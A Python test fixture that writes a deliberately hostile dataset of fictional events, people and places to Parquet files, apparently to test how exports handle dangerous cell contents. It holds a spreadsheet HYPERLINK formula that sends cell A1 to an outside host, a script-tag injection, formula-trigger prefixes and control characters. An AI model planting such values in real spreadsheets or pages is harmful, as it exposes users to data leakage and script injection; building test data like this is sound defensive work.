"""A small dataset whose text means harm: formulas, control characters, text longer than a cell."""

from __future__ import annotations

from datetime import date
from pathlib import Path

from pipeline.schema.dataset import (
    TABLES,
    Event,
    EventMention,
    EventOrganization,
    EventPerson,
    Item,
    MentionRow,
    Organization,
    OrganizationRole,
    Page,
    PageText,
    Person,
    PersonRole,
    Place,
)
from pipeline.storage.tables import write_rows

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'
SCRIPT = "Volt said <script>alert(1)</script> so."
LONG = "word " * 10_000
DAY = date(2015, 3, 13)
MARCH = date(2015, 3, 1)

VOLT = PersonRole("volt", "Irena Volt", "target")

ROWS: dict[type, list[object]] = {
    Page: [Page("p", "p.txt", "0" * 64, "+title", "https://example.org/p", DAY, "en", 90_000, 2, None)],
    PageText: [PageText("p", LONG)],
    Item: [
        Item("p#0", "p", 0, "@SUM(1)", DAY, "day", "dateline", LONG, False, 0, 10, "x"),
        Item("p#20", "p", 1, None, MARCH, "month", "dateline", "bell \x07 rings", False, 20, 30, "x"),
    ],
    MentionRow: [MentionRow("p@1", "p#0", "person", "volt", "Volt", 1, 5, "x")],
    Person: [
        Person("volt", "Irena Volt", ("-Volt", "I. Volt"), 2, 2, DAY, DAY),
        Person("formula", FORMULA, (), 1, 1, None, None),
    ],
    Organization: [Organization("archive", "Open \x07Archive", "OA", ("Archive",), 1, 1, None, None)],
    Place: [
        Place("minsk", "Minsk", "city", ("Mensk",), "BY", 53.9, 27.57, 625144, 1, 1),
        Place("nowhere", "Nowhere", "other", (), None, None, None, None, 1, 1),
    ],
    Event: [
        Event("held", "detention", "COERCE", "arrest", "detained", "-2+3 were detained", DAY, DAY, "day",
              "minsk", "Minsk", (VOLT, PersonRole("formula", FORMULA, "target")),
              (OrganizationRole("archive", "Open \x07Archive", "other"),), ("p#0", "p#20"), 2, 0.9),
        Event("appeal", "appeal_or_letter", "REQUEST", None, "called on", "It called on all.", MARCH,
              date(2015, 3, 31), "month", "nowhere", "Nowhere", (),
              (OrganizationRole("archive", "Open \x07Archive", "actor"),), ("p#20",), 1, 0.4),
        Event("undated", "statement", "CONSULT", None, "said", SCRIPT, None, None, None, None, None,
              (PersonRole("volt", "Irena Volt", "actor"),), (), ("p#0",), 1, 0.4),
    ],
    EventMention: [
        EventMention("held", "p#0", "detained", "-2+3 were detained", 1, 2, 0, 9, "x"),
        EventMention("held", "p#20", "held", "Held again", 21, 22, 20, 29, "x"),
        EventMention("undated", "p#0", "said", SCRIPT, 3, 4, 0, 9, "x"),
    ],
    EventPerson: [EventPerson("held", "volt", "target"), EventPerson("held", "formula", "target"),
                  EventPerson("undated", "volt", "actor")],
    EventOrganization: [EventOrganization("held", "archive", "other"),
                        EventOrganization("appeal", "archive", "actor")],
}  # fmt: skip


def write_hostile(folder: Path) -> Path:
    """The dataset as Parquet files."""
    for name, row in TABLES:
        write_rows(folder / f"{name}.parquet", row, ROWS.get(row, []))
    return folder
